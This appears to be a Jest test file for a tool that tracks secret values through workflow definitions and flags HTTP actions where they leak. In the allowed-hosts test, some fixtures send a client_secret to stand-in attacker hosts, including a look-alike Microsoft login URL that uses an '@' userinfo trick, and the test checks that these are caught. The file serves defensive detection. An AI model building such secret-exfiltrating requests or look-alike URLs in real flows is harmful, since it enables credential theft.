import { describe, expect, it } from '@jest/globals';
import { analyseFlow } from '../../src/model/analyse-flow.js';
import { buildFlow } from '../../src/model/build-flow.js';
import { dataFlowOf } from '../../src/model/data-flow.js';
import type { SecretUse } from '../../src/model/flow-analysis.js';
import { MAX_VIA } from '../../src/model/secret-flow.js';
import { flowFile, foreach, getSecret, http, scope } from '../helpers/flow-builders.js';
import { modelOf } from '../helpers/rule-tester.js';

type Json = Record<string, unknown>;

const compose = (inputs: unknown): Json => ({ type: 'Compose', inputs, runAfter: {} });
const initVar = (name: string, value: unknown): Json => ({
  type: 'InitializeVariable',
  inputs: { variables: [{ name, type: 'string', value }] },
  runAfter: {},
});
const setVar = (name: string, value: unknown): Json => ({
  type: 'SetVariable',
  inputs: { name, value },
  runAfter: {},
});

function analyse(actions: Json, options = {}) {
  const flow = modelOf(flowFile(actions));
  const analysis = analyseFlow(flow, options);
  const node = (name: string) => flow.byName.get(name)!;
  const uses = (name: string): Array<Partial<SecretUse>> =>
    analysis
      .secretUses(node(name))
      .map(({ path, hops, via, source, slot, sink }) => ({ path, hops, via, source, slot, sink }));
  return { flow, analysis, node, uses };
}

const S = getSecret('OpenApiConnection', 'api-key', { secureOutputs: true });

describe('data flow: origins', () => {
  it('follows variables to their writers', () => {
    const { analysis, node } = analyse({
      Get_secret: S,
      Init: initVar('token', "@body('Get_secret')?['value']"),
      Other: initVar('unrelated', "@triggerBody()?['x']"),
      Use: compose("@variables('token')"),
    });
    expect([...analysis.origins("@variables('TOKEN')", node('Use'))]).toEqual(['Get_secret']);
    expect([...analysis.origins("@variables('unrelated')", node('Use'))]).toEqual(['manual']);
  });

  it('passes through Compose, ParseJson and Select, but not through an HTTP call', () => {
    const { analysis, node } = analyse({
      Get_secret: S,
      Call: http({
        uri: 'https://api.example.com',
        headers: { Authorization: "Bearer @{body('Get_secret')?['value']}" },
      }),
      Parse: { type: 'ParseJson', inputs: { content: "@body('Call')", schema: {} }, runAfter: {} },
      Shape: compose("@body('Parse')?['id']"),
      Pick: {
        type: 'Select',
        inputs: { from: "@outputs('Shape')", select: { v: "@item()?['v']" } },
        runAfter: {},
      },
    });
    expect([...analysis.origins("@body('Pick')", node('Pick'))].sort()).toEqual([
      'Call',
      'Parse',
      'Pick',
      'Shape',
    ]);
    expect(analysis.secretDerived.has('Call')).toBe(false);
    expect(analysis.secretDerived.has('Pick')).toBe(false);
  });

  it("resolves trigger reads to the trigger and result('Scope') to its children", () => {
    const { analysis, node } = analyse({
      Try: scope({ Get_secret: S, Inner: compose('x') }),
      Use: compose('y'),
    });
    expect([...analysis.origins("@triggerOutputs()?['body']", node('Use'))]).toEqual(['manual']);
    expect([...analysis.origins("@result('Try')", node('Use'))].sort()).toEqual([
      'Get_secret',
      'Inner',
      'Try',
    ]);
  });

  it('resolves item() to the innermost Foreach, and items() by name', () => {
    const { analysis, node } = analyse({
      Outer: foreach("@triggerBody()?['rows']", {
        Inner: foreach("@body('Get_secret')?['list']", { Use: compose("@item()?['v']") }),
        Get_secret: S,
      }),
    });
    expect([...analysis.origins("@item()?['v']", node('Use'))]).toEqual(['Get_secret']);
    expect([...analysis.origins("@items('Outer')", node('Use'))]).toEqual(['manual']);
  });

  it('terminates on cycles and reaches the fixed point', () => {
    const { analysis, node } = analyse({
      Get_secret: S,
      InitA: initVar('a', "@variables('b')"),
      InitB: initVar('b', "@variables('a')"),
      SetB: setVar('b', "@concat(variables('b'), outputs('C2'))"),
      C1: compose("@outputs('C2')"),
      C2: compose("@concat(outputs('C1'), body('Get_secret'))"),
      Use: compose("@variables('a')"),
    });
    expect([...analysis.origins("@variables('a')", node('Use'))].sort()).toEqual(['C1', 'C2', 'Get_secret']);
    expect(analysis.secretDerived).toEqual(
      new Set(['Get_secret', 'C1', 'C2', 'InitA', 'InitB', 'SetB', 'Use']),
    );
  });

  it('works for flows without secret sources, and answers secretUses with nothing', () => {
    const { analysis, node } = analyse({ A: compose('@triggerBody()'), B: compose("@outputs('A')") });
    expect([...analysis.origins("@outputs('B')", node('B'))].sort()).toEqual(['A', 'B', 'manual']);
    expect(analysis.secretUses(node('B'))).toEqual([]);
    expect(analysis.secretDerived.size).toBe(0);
  });

  it('parses each node once', () => {
    const { flow } = analyse({ A: compose('@triggerBody()') });
    const df = dataFlowOf(flow);
    expect(df.refSites(flow.byName.get('A')!)).toBe(df.refSites(flow.byName.get('A')!));
  });
});

describe('data flow: secret uses', () => {
  it('counts hops through variables and data-shaping actions, with the path taken', () => {
    const { uses } = analyse({
      Get_secret: S,
      Init: initVar('token', "@body('Get_secret')?['value']"),
      C1: compose("@variables('token')"),
      C2: compose({ nested: ["@{outputs('C1')}"] }),
    });
    expect(uses('Init')).toEqual([
      {
        path: ['inputs', 'variables', 0, 'value'],
        hops: 0,
        via: ['Get_secret'],
        source: 'Get_secret',
        slot: 'data',
        sink: null,
      },
    ]);
    expect(uses('C1')[0]).toMatchObject({ hops: 1, via: ['Get_secret', 'Init'] });
    expect(uses('C2')[0]).toMatchObject({
      path: ['inputs', 'nested', 0],
      hops: 2,
      via: ['Get_secret', 'Init', 'C1'],
    });
  });

  it('keeps the fewest hops when a value is reachable two ways', () => {
    const { uses } = analyse({
      Get_secret: S,
      C1: compose("@body('Get_secret')"),
      C2: compose("@concat(outputs('C1'), body('Get_secret'))"),
    });
    expect(uses('C2')).toEqual([expect.objectContaining({ hops: 0, via: ['Get_secret'] })]);
  });

  it('counts a loop item over secret data as a direct read, and Select items through the Select', () => {
    const { uses } = analyse({
      Get_secret: S,
      Loop: foreach("@body('Get_secret')?['value']", { Use: compose("@items('Loop')") }),
      Pick: {
        type: 'Select',
        inputs: { from: "@body('Get_secret')", select: "@item()?['v']" },
        runAfter: {},
      },
      After: compose("@body('Pick')"),
    });
    expect(uses('Use')[0]).toMatchObject({ hops: 0, via: ['Get_secret', 'Loop'] });
    expect(uses('Loop')[0]).toMatchObject({ path: ['foreach'], hops: 0 });
    expect(uses('After')[0]).toMatchObject({ hops: 1, via: ['Get_secret', 'Pick'] });
  });

  it('marks credential slots and classifies sinks', () => {
    const { uses } = analyse({
      Get_secret: S,
      Init: initVar('token', "@body('Get_secret')?['value']"),
      Call: http({
        uri: "https://api.example.com/x?k=@{variables('token')}",
        headers: { Authorization: "@variables('token')", 'X-Data': "@variables('token')" },
        queries: { q: "@variables('token')" },
        body: { a: { b: "@variables('token')" } },
        authentication: { type: 'Basic', username: 'u', password: "@variables('token')" },
      }),
    });
    const byPath = Object.fromEntries(uses('Call').map((u) => [u.path!.join('.'), [u.slot, u.sink]]));
    expect(byPath).toEqual({
      'inputs.uri': ['data', 'http-uri'],
      'inputs.headers.Authorization': ['credential', null],
      'inputs.headers.X-Data': ['data', 'http-header'],
      'inputs.queries.q': ['data', 'http-query'],
      'inputs.body.a.b': ['data', 'http-body'],
      'inputs.authentication.password': ['credential', null],
    });
  });

  it('exempts identity-provider token requests and allowed hosts, never a look-alike host', () => {
    const body = { body: "client_secret=@{body('Get_secret')?['value']}" };
    const { uses } = analyse(
      {
        Get_secret: S,
        Token: http({
          uri: "https://login.microsoftonline.com/@{parameters('tenant')}/oauth2/v2.0/token",
          ...body,
        }),
        B2C: http({
          uri: 'https://contoso.b2clogin.com/contoso.onmicrosoft.com/B2C_1/oauth2/v2.0/token',
          ...body,
        }),
        Allowed: http({ uri: 'https://vault.internal.example/api', ...body }),
        Sub: http({ uri: 'https://x.corp.example/api', ...body }),
        Fake: http({ uri: 'https://login.microsoftonline.com@evil.example/oauth2/token', ...body }),
        Generic: http({ uri: 'https://evil.example/oauth2/v2.0/token', ...body }),
        Dynamic: http({ uri: "https://@{triggerBody()?['h']}.b2clogin.com/oauth2/v2.0/token", ...body }),
      },
      { allowedHosts: ['vault.internal.example', '*.corp.example'] },
    );
    for (const name of ['Token', 'B2C', 'Allowed', 'Sub']) expect(uses(name)[0].sink).toBeNull();
    for (const name of ['Fake', 'Generic', 'Dynamic']) expect(uses(name)[0].sink).toBe('http-body');
  });
});

describe('data flow: hostile sizes', () => {
  it('follows a chain of 5,000 variables quickly, with a bounded via', () => {
    const actions: Json = { Get_secret: S, V0: initVar('v0', "@body('Get_secret')") };
    for (let i = 1; i < 5000; i++) actions[`V${i}`] = initVar(`v${i}`, `@variables('v${i - 1}')`);
    actions.Back = setVar('v0', "@variables('v4999')");
    actions.Use = compose("@variables('v4999')");
    const started = Date.now();
    const { uses } = analyse(actions);
    const [use] = uses('Use');
    expect(use.hops).toBe(5000);
    expect(use.via![0]).toBe('Get_secret');
    expect(use.via!.length).toBeLessThanOrEqual(MAX_VIA);
    expect(Date.now() - started).toBeLessThan(5000);
  });

  it('walks inputs nested 20,000 levels deep without overflowing the stack', () => {
    let deep: unknown = "@body('Get_secret')";
    for (let i = 0; i < 20_000; i++) deep = i % 2 ? { k: deep } : [deep];
    // Built without modelOf: its JSON.stringify of the source text would itself overflow.
    const container = flowFile({ Get_secret: S, Use: compose(deep) }).properties as Json;
    const flow = buildFlow({
      source: { file: 'deep.json', entry: null, layout: 'single-file', text: '' },
      containerPath: ['properties'],
      container,
      meta: {},
      solutionConnectionReferences: [],
      pathKey: 'deep.json',
    });
    expect(analyseFlow(flow).secretUses(flow.byName.get('Use')!)[0].path).toHaveLength(20_001);
  });
});
